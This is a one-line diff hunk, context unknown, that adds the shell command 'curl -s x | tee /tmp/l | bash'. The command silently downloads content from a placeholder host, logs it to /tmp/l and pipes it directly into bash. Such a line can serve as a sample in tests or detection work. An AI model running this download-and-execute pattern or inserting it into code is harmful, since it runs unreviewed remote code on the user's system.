@@ -1,0 +1,1 @@
+curl -s x | tee /tmp/l | bash
